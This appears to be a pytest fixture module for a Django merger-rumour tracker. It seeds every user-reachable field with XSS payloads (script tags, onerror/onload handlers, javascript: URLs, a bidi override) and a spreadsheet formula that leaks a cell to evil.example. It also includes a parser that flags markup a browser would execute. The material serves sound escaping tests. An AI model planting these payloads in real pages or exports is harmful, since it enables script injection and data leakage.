"""Hostile data and the tools to judge what the product makes of it.

:func:`hostile_world` fills every text an outsider or a careless import can reach
(feed entries, company and person names, rumour titles, sources, quotes, evidence
notes, webhook answers) with markup payloads, through the same services a poll,
an import or an analyst uses. :func:`live_markup` reads a page with
:mod:`html.parser`, the way a browser tokenises it, and lists any tag or attribute
that came from a payload and would run.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser
from xml.sax.saxutils import escape as xml_escape

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from rumours.mentions import mentions_scan
from rumours.models import (
    Company,
    DeliveryState,
    Mention,
    Person,
    Quote,
    Rumour,
    Source,
    Stance,
    Status,
    StatusChange,
    Subscription,
    WebhookDelivery,
    WebhookEndpoint,
    WebhookEvent,
)
from rumours.services import (
    AliasSpec,
    CompanySpec,
    PartySpec,
    api_key_create,
    company_upsert,
    person_upsert,
    quote_add,
    rumour_attach_source,
    rumour_change_status,
    rumour_create,
    status_change_retract,
)
from rumours.webhooks import new_secret
from tests.rumours.digest_world import subscriber
from tracker.models import Entry, Feed, PollLog
from tracker.services import feed_create, feed_ingest_document

# Every payload says XSS, so anything live that carries it is ours, not the admin's own markup.
SCRIPT = '<script>alert("XSS")</script>'
IMG = '"><img src=x onerror=alert("XSS")>'
SVG = "'><svg onload=alert('XSS')>"
BIDI = "\u202eXSS-bidi\u202c"  # right-to-left override: reverses what follows on screen
HOSTILE = SCRIPT + IMG + SVG + BIDI
JS_URL = "javascript:alert('XSS')"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def hostile(label: str) -> str:
    """``label`` followed by every payload: unique per use, recognisable in a page."""
    return f"{label} {HOSTILE}"


# --- Reading pages the way a browser does -------------------------------------------------------

URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"})
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._in_script = True
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and _INVISIBLE.sub("", value).lower().startswith(("javascript:", "vbscript:")):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc" or (tag == "script" and "XSS" in value):
                self.live.append(f"<{tag} {name}={value!r}>")
        if tag in {"img", "svg", "iframe"} and any("XSS" in (value or "") for _, value in attrs):
            self.live.append(f"<{tag} {attrs!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            if "XSS" in data:
                self.live.append(f"<script>{data[:80]!r}")
        else:
            self.text.append(data)


def read_page(page: str) -> tuple[list[str], str]:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.live, "".join(reader.text)


def live_markup(page: str) -> list[str]:
    """Tags and attributes in ``page`` that would run: event handlers, ``javascript:``
    URLs, ``srcdoc``, and scripts or images carrying a payload."""
    return read_page(page)[0]


def visible_text(page: str) -> str:
    """The page's text as a reader sees it (entities decoded, scripts left out)."""
    return read_page(page)[1]


def assert_escaped(page: str, *expected: str) -> None:
    """Nothing live in ``page``, and each of ``expected`` shown as text (so it was rendered at all)."""
    live, text = read_page(page)
    assert live == [], f"live markup: {live[:5]}"
    flat = " ".join(text.split())
    for wanted in expected:
        assert " ".join(wanted.split()) in flat, f"{wanted[:60]!r} is not shown as text"


def unescaped(text: str) -> str:
    return html.unescape(text)


# --- A feed document that carries the payloads ----------------------------------------------------


def hostile_feed_document() -> bytes:
    """RSS with payloads in every field: the second item sends its title and author
    entity-escaped, the way a headline about a ``<script>`` tag arrives."""
    quote = f"“{xml_escape(HOSTILE)} we are in merger talks with Gojek,” said Alex Hungate."
    summary = (
        f"<p>Grab Holdings is in merger talks with GoTo. {quote}</p>"
        f'{SCRIPT}<img src=x onerror=alert("XSS")><a href="{JS_URL}">more</a>'
    )
    content = f'<div>{summary}<iframe srcdoc="{xml_escape(SCRIPT)}"></iframe><svg onload="alert(1)"></svg></div>'
    items = [
        ("urn:hostile:1", HOSTILE, JS_URL, summary, content, HOSTILE),
        (
            "urn:hostile:2",
            xml_escape(hostile("Grab Holdings and GoTo agree merger")),
            'https://news.example/a"><script>alert("XSS")</script>',
            "<p>Grab Holdings agreed to buy GoTo.</p>",
            "",
            xml_escape(HOSTILE),
        ),
    ]
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">',
        f"<channel><title>{xml_escape(HOSTILE)}</title><link>{xml_escape(JS_URL)}</link><language>en</language>",
    ]
    for guid, title, link, description, encoded, author in items:
        parts += [
            f"<item><title>{xml_escape(title)}</title><link>{xml_escape(link)}</link>",
            f'<guid isPermaLink="false">{guid}</guid><description>{xml_escape(description)}</description>',
            f"<content:encoded>{xml_escape(encoded)}</content:encoded>" if encoded else "",
            f"<dc:creator>{xml_escape(author)}</dc:creator>",
            "<pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate></item>",
        ]
    parts.append("</channel></rss>")
    return "\n".join(parts).encode()


# --- The world ------------------------------------------------------------------------------------


@dataclass
class HostileWorld:
    analyst: User
    feed: Feed
    entries: list[Entry]
    mention: Mention
    grab: Company
    goto: Company
    person: Person
    rumour: Rumour
    source: Source
    quote: Quote
    change: StatusChange
    retracted: StatusChange
    subscription: Subscription
    endpoint: WebhookEndpoint
    api_key: str


@pytest.fixture
def hostile_world(db, settings) -> HostileWorld:
    settings.TRACKER_ENTRIES_HANDLER = "tests.handoff_recorder.record"  # scanned below, by hand
    analyst = User.objects.create_superuser("curator", "curator@example.invalid", "a-long-password-1")
    grab, _ = company_upsert(
        spec=CompanySpec(
            name=hostile("Grab"),
            country="SG",
            sector="super_app",
            tickers=[FORMULA],
            website=JS_URL,
            aliases=(AliasSpec("Grab Holdings"), AliasSpec(HOSTILE, language="en")),
        )
    )
    goto, _ = company_upsert(
        spec=CompanySpec(
            name=FORMULA, country="ID", sector="super_app", aliases=(AliasSpec("GoTo"), AliasSpec("Gojek"))
        )
    )
    person, _ = person_upsert(
        name=hostile("Alex"), company=grab, role=hostile("President"), aliases=[AliasSpec("Alex Hungate")]
    )

    feed, _ = feed_create(url="https://hostile.example/rss.xml", title=hostile("Feed"), language="en")
    feed_ingest_document(feed=feed, body=hostile_feed_document(), content_type="application/rss+xml")
    Feed.objects.filter(pk=feed.pk).update(last_error=hostile("Last error"), error_count=1)
    PollLog.objects.filter(feed=feed).update(warning=hostile("Warning"), error=hostile("Error"))
    entries = list(Entry.objects.filter(feed=feed).order_by("guid"))
    assert [e.guid for e in entries] == ["urn:hostile:1", "urn:hostile:2"]
    assert entries[0].link == ""  # javascript: is no article link
    assert entries[1].title == hostile("Grab Holdings and GoTo agree merger")
    assert entries[1].author == HOSTILE
    mentions_scan(entry_ids=[e.pk for e in entries])
    mention = Mention.objects.get(entry=entries[0])
    assert any(HOSTILE in quote["text"] for quote in mention.suggested_quotes), mention.suggested_quotes

    rumour = rumour_create(
        title=hostile("Merger"),
        summary=HOSTILE,
        parties=[PartySpec(goto, "acquirer"), PartySpec(grab, "target")],  # the formula first, in the CSV
        created_by=analyst,
        value_currency="USD",
    )
    now = timezone.now().replace(microsecond=0)
    source = rumour_attach_source(
        rumour=rumour,
        url='https://evil.example/"><script>alert("XSS")</script>',
        title=hostile("Source"),
        outlet=hostile("Outlet"),
        outlet_tier=1,
        published_at=now - timedelta(hours=3),
        language="en",
        excerpt=HOSTILE,
        added_by=analyst,
    )
    quote = quote_add(
        rumour=rumour,
        speaker=person,
        speaker_name=hostile("Speaker"),
        speaker_role=hostile("Role"),
        text=HOSTILE,
        translation=hostile("Translation"),
        language="en",
        stance=Stance.CONFIRMS,
        said_at=now - timedelta(hours=2),
        source=source,
        added_by=analyst,
    )
    retracted = rumour_change_status(
        rumour=rumour, status=Status.RUMOURED, effective_at=now - timedelta(hours=2), recorded_by=analyst,
        evidence_source=source, note=hostile("Wrong note"),
    )  # fmt: skip
    status_change_retract(change=retracted, retracted_by=analyst, reason=hostile("Reason"))
    change = rumour_change_status(
        rumour=rumour, status=Status.IN_TALKS, effective_at=now - timedelta(hours=1), recorded_by=analyst,
        evidence_source=source, evidence_quote=quote, note=hostile("Note"),
    )  # fmt: skip

    investor = User.objects.create_user("fund", "fund@example.invalid")
    endpoint = WebhookEndpoint.objects.create(user=investor, url="https://hooks.example/in", secret=new_secret())
    # What a receiver answered goes into last_error verbatim: an outsider writes it.
    WebhookDelivery.objects.create(
        endpoint=endpoint, event_id="msg_hostile", event_type=WebhookEvent.STATUS_CHANGED, payload={"x": HOSTILE},
        state=DeliveryState.FAILED, attempts=8, last_status_code=500,
        last_error=f"The endpoint answered HTTP 500: {HOSTILE}",
    )  # fmt: skip
    subscription = subscriber("reader@example.invalid", since=now - timedelta(days=3), follows=[grab])
    _, key = api_key_create(user=investor, name=hostile("Key")[:100], created_by=analyst)
    rumour.refresh_from_db()
    return HostileWorld(
        analyst, feed, entries, mention, grab, goto, person, rumour, source, quote, change, retracted,
        subscription, endpoint, key,
    )  # fmt: skip
